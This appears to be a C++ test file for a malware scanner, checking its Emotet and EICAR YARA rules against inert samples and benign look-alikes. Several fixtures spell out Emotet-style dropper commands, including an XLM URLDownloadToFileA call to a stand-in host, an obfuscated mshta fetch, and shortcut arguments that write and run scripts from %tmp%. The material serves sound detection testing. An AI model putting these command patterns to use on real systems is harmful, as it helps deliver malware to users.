// Shipped rules against whole inert documents of many kinds, and against real ones, through the engine that
// runs them in service. Each rule's own tests lie in tests/, and `sekisho rules test` runs them.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>

#include "base/text.h"
#include "scanner/format.h"
#include "scanner/identify.h"
#include "scanner/magic.h"
#include "scanner/rules/yara_engine.h"
#include "tests/fixtures/corpus.h"
#include "tests/fixtures/documents.h"
#include "tests/fixtures/droppers.h"
#include "tests/fixtures/le.h"
#include "tests/fixtures/mail.h"
#include "tests/fixtures/xml_documents.h"

namespace sekisho::scanner::rules {
namespace {

using fixtures::utf16le;

struct Sample {
    std::string rule;  // that this is for
    std::string bytes;
    RuleFacts facts;
};

RuleFacts vba() { return {.filename = "ThisDocument.vba", .mime_type = "text/x-vba", .part_kind = "vba"}; }
// The type is what identify() says of the bytes: rules may name the types that they are for.
RuleFacts named(std::string name, std::string kind = "mime") {
    return {.filename = std::move(name), .part_kind = std::move(kind)};
}
RuleFacts raw() { return {.part_kind = "input", .raw = true}; }

std::string macro(std::string_view wave) {
    return fixtures::module_source(fixtures::dropper_project(wave).modules.at(0));
}
std::string padded_document(bool macros) {
    const fixtures::VbaProject project = fixtures::dropper_project("2023-03");
    return fixtures::padded(fixtures::doc_file("INERT SEKISHO TEST", macros ? &project : nullptr),
                            101u << 20);
}
std::string shortcut(std::string_view arguments) {
    return std::string("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46",
                       20) +
           std::string(56, '\0') + utf16le(arguments);
}
std::string notebook(std::string_view content) {
    std::string out("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
    out.append(64, '\0');
    out += std::string("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
    fixtures::put_le(out, content.size(), 8);
    out.append(12, '\0');
    return out + std::string(content);
}
std::string huge_member(std::string name, std::uint32_t size) {
    return fixtures::stored_zip(
        {{.name = std::move(name), .data = "INERT SEKISHO TEST", .declared_size = size}});
}
std::string locked_zip() {
    return fixtures::stored_zip({{.name = "invoice.doc", .data = std::string(64, 'x'), .encrypted = true}});
}
RuleFacts word_document(std::string name) {
    RuleFacts facts = named(std::move(name));
    facts.extension = "." + base::extension_of(facts.filename);
    return facts;
}
std::string word_xml(bool macros) {
    const fixtures::VbaProject project = fixtures::dropper_project("2018-05");
    return fixtures::word_xml_file("INERT SEKISHO TEST", macros ? &project : nullptr);
}
std::string sheet(std::string_view cell) { return fixtures::xls_file(cell); }

// Inert: what the rule is there for.
std::vector<Sample> positives() {
    const fixtures::MailPart attached = fixtures::attachment("Mes_G697449.doc", "INERT");
    return {
        {"Emotet_VBA_Array_Shell_2018", macro("2018-05"), vba()},
        {"Emotet_VBA_WMI_Form_2019", macro("2019-09"), vba()},
        {"Emotet_VBA_Concat_Replace_2021", macro("2021-11"), vba()},
        {"Emotet_VBA_ProgramData_Script_2022", macro("2022-02"), vba()},
        {"Emotet_VBA_Padded_Regsvr32_2023", macro("2023-03"), vba()},
        {"Emotet_Padded_Document_2023", padded_document(true), named("Data-16032023.doc", "zip")},
        {"Emotet_Word_XML_Macro_2018", word_xml(true), word_document("PAYMENT 225EWF.doc")},
        {"Emotet_Word_XML_Macro_2018", "\xFF\xFE" + utf16le(word_xml(true)), word_document("invoice.DOC")},
        {"Emotet_XLM_Download_2022",
         sheet("CALL(\"nolib\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://example.invalid/x/"
               "\",\"..\\inert.ocx\")"),
         named("07062022.xls")},
        {"Emotet_XLM_Download_2022",
         std::string("\x09\x08\x10\x00\x00\x06\x05\x00", 8) + "urlmon JJCCBB regsvr32",
         named("Workbook", "ole-stream")},
        {"Emotet_XLM_Mshta_Caret_2022", sheet("cmd /c m^sh^t^a h^tt^p^:/^/0xc0000201/inert.html"),
         named("a.xls")},
        {"Emotet_Excel_Templates_Folder_2022",
         sheet("RELAUNCH REQUIRED copy the file to C:\\Program Files\\Microsoft Office\\root\\Templates"),
         named("a.xls")},
        {"Emotet_JS_Array_2019", fixtures::js_dropper_utf16(), named("8019.js")},
        {"Emotet_LNK_Findstr_2022",
         shortcut("/v:on /c findstr \"INERT.*\" \"Form.lnk\" > \"%tmp%\\x.vbs\" & \"%tmp%\\x.vbs\""),
         named("Form.lnk")},
        {"Emotet_LNK_Findstr_2022",
         shortcut("-c [Convert]::FromBase64String('SU5FUlQ=') > \"$env:TEMP\\x.ps1\""), named("Form.lnk")},
        {"Emotet_OneNote_Script_2023", notebook("<job><script language=\"VBScript\">' INERT</script></job>"),
         named("invoice.one")},
        {"Emotet_ZIP_Padded_Document_2023", huge_member("Data-16032023.doc", 560'000'000),
         named("Data-16032023.zip")},
        {"Emotet_ZIP_Padded_Document_2023", huge_member("INVOICE.XLSM", 560'000'000), named("a.zip")},
        {"Emotet_ZIP_Locked_Name_2020", locked_zip(), named("AN143221 200121.zip")},
        {"Emotet_ZIP_Locked_Name_2020", locked_zip(), named("2022-02-04_1234.zip")},
        {"Emotet_Mail_Reply_Chain_Boundary", fixtures::reply_chain_mail(attached), raw()},
        {"EICAR_Test_File", fixtures::eicar(), named("eicar.com")},
        {"EICAR_Test_File", fixtures::eicar() + "\r\n", named("eicar.txt")},
    };
}

// Benign, and as close to the rule as honest files come. None may match any rule.
std::vector<Sample> negatives() {
    const fixtures::VbaProject benign = fixtures::benign_project();
    const std::string workbook_macro = fixtures::module_source(benign.modules.at(0));
    const std::string form_macro =
        "Attribute VB_Name = \"Form\"\r\nSub AutoOpen()\r\nUserForm1.TextBox1.Text = Replace(name, \" \", "
        "\"\")\r\n"
        "Set db = CreateObject(\"ADODB.Connection\")\r\nEnd Sub\r\n";
    const std::string array_macro =
        "Sub Auto_Open()\r\nmonths = Array(\"Jan\", \"Feb\", \"Mar\")\r\nMsgBox Join(months, \",\")\r\nEnd "
        "Sub\r\n";
    const std::string replace_macro =
        "Sub Workbook_Open()\r\nx = Replace(Range(\"A1\"), \"-\", \"\") & \" \" & \"t\" & "
        "y\r\nApplication.Run \"A\"\r\nEnd Sub\r\n";
    const std::string log_macro =
        "Sub Save()\r\nOpen \"C:\\ProgramData\\Acme\\log.txt\" For Output As #1\r\nEnd Sub\r\n";
    const std::string update_macro =
        "Sub Update()\r\nIf URLDownloadToFile(0, u, f, 0, 0) = 0 Then\r\nIf Left(h, 2) = \"PK\" Then Unzip "
        "f\r\nEnd If\r\nEnd Sub\r\n";
    fixtures::Mail reply;
    reply.subject = "Re: Postpone this week's meeting";
    reply.boundary = "--2721644617813540782547331541442470";
    reply.headers = {"In-Reply-To: <1@example.com>", "References: <1@example.com>"};
    reply.parts = {{.bytes = "Yes.\r\n", .encoding = "7bit"}, fixtures::attachment("a.pdf", "%PDF-1.4")};
    fixtures::Mail digits = reply;
    digits.subject = "Scan from a device";
    digits.headers.clear();
    return {
        {"Emotet_VBA_Array_Shell_2018", array_macro, vba()},
        {"Emotet_VBA_WMI_Form_2019", form_macro, vba()},
        {"Emotet_VBA_Concat_Replace_2021", replace_macro, vba()},
        {"Emotet_VBA_Concat_Replace_2021", workbook_macro, vba()},
        {"Emotet_VBA_ProgramData_Script_2022", log_macro, vba()},
        {"Emotet_VBA_Padded_Regsvr32_2023", update_macro, vba()},
        {"Emotet_Padded_Document_2023", padded_document(false), named("scan.doc")},
        {"Emotet_Word_XML_Macro_2018", word_xml(false), word_document("report.doc")},
        {"Emotet_Word_XML_Macro_2018", word_xml(true), word_document("form with macros.xml")},
        {"Emotet_XLM_Download_2022", sheet("The article on JJCCBB and CALL"), named("a.xls")},
        {"Emotet_XLM_Mshta_Caret_2022", "mshta is described at http://example.com/", named("a.txt")},
        {"Emotet_Excel_Templates_Folder_2022",
         "Templates lie in C:\\Program Files\\Microsoft Office\\root\\Templates", named("a.txt")},
        {"Emotet_JS_Array_2019", "\xFF\xFE" + utf16le("var a = ['x'];"), named("a.js")},
        {"Emotet_JS_Array_2019", fixtures::benign_js(), named("a.js")},
        {"Emotet_LNK_Findstr_2022", shortcut("\\\\server\\share\\plans"), named("plans.lnk")},
        {"Emotet_OneNote_Script_2023", notebook("%PDF-1.4 minutes of the meeting"), named("notes.one")},
        {"Emotet_ZIP_Padded_Document_2023", huge_member("database.csv", 560'000'000), named("a.zip")},
        {"Emotet_ZIP_Padded_Document_2023", huge_member("report.doc", 18), named("a.zip")},
        {"Emotet_ZIP_Locked_Name_2020", locked_zip(), named("estimate_tokyo.zip")},
        {"Emotet_ZIP_Locked_Name_2020", fixtures::stored_zip({{"a.txt", "x"}}), named("AN143221 200121.zip")},
        {"Emotet_Mail_Reply_Chain_Boundary", fixtures::write_mail(reply), raw()},
        {"Emotet_Mail_Reply_Chain_Boundary", fixtures::write_mail(digits), raw()},
        {"EICAR_Test_File", "An article about " + fixtures::eicar() + ", the test string of EICAR.",
         named("a.txt")},
    };
}

class Signatures : public testing::Test {
protected:
    void SetUp() override {
        auto loaded = load_yara({std::string(SEKISHO_SOURCE_DIR) + "/signatures"});
        ASSERT_TRUE(loaded.has_value()) << loaded.error().message;
        engine_ = std::move(*loaded);
        ASSERT_TRUE(load_magic());
    }
    std::vector<std::string> matches(std::string_view bytes, RuleFacts facts) {
        Findings findings(100);
        Part part{.name = facts.filename, .opened_by = facts.part_kind, .bytes = base::as_bytes(bytes)};
        if (!facts.raw && facts.mime_type.empty()) {
            (void)identify(part, rooms());
            facts.mime_type = part.type;
        }
        engine_->scan(Stretches(base::as_bytes(bytes)), facts, 0, std::chrono::minutes(5), findings);
        std::vector<std::string> out;
        for (const auto& finding : findings.all())
            out.push_back(finding.id);
        return out;
    }
    std::unique_ptr<Engine> engine_;
};

TEST_F(Signatures, AllCompileAndSayWhatTheyAre) {
    EXPECT_THAT(engine_->table().problems, testing::IsEmpty());
    EXPECT_GE(engine_->table().rules.size(), 50U);
    for (const model::RuleInfo& rule : engine_->table().rules) {
        EXPECT_GT(rule.score, 0.0) << rule.name;
        EXPECT_NE(rule.severity, "") << rule.name;
        EXPECT_NE(rule.family, "") << rule.name;
        EXPECT_NE(rule.reference, "") << rule.name;
    }
}

// `sekisho rules test` tries them.
TEST_F(Signatures, EachRuleHasBothKindsOfTest) {
    for (const model::RuleInfo& rule : engine_->table().rules) {
        for (const char* kind : {"positive", "negative"}) {
            const std::filesystem::path folder =
                std::filesystem::path(SEKISHO_SOURCE_DIR) / "signatures/tests" / rule.name / kind;
            EXPECT_TRUE(std::filesystem::is_directory(folder) && !std::filesystem::is_empty(folder))
                << folder;
        }
    }
}

TEST_F(Signatures, PositivesMatch) {
    for (const Sample& sample : positives()) {
        EXPECT_THAT(matches(sample.bytes, sample.facts), testing::Contains("yara." + sample.rule))
            << sample.facts.filename;
    }
}

TEST_F(Signatures, NegativesMatchNothing) {
    for (const Sample& sample : negatives()) {
        EXPECT_THAT(matches(sample.bytes, sample.facts), testing::IsEmpty()) << sample.rule;
    }
}

TEST_F(Signatures, RealFilesMatchNothing) {
    const std::string directory = fixtures::corpus_directory(SEKISHO_SOURCE_DIR);
    if (directory.empty()) GTEST_SKIP() << "the corpus of real files is not here (SEKISHO_CORPUS)";
    for (const auto& file : fixtures::corpus_files(directory)) {
        const std::string bytes = fixtures::read_whole_file(file.path);
        const std::string name = file.path.substr(file.path.find_last_of('/') + 1);
        EXPECT_THAT(matches(bytes, named(name)), testing::IsEmpty()) << file.path;
        EXPECT_THAT(matches(bytes, raw()), testing::IsEmpty()) << file.path;
    }
}

}  // namespace
}  // namespace sekisho::scanner::rules
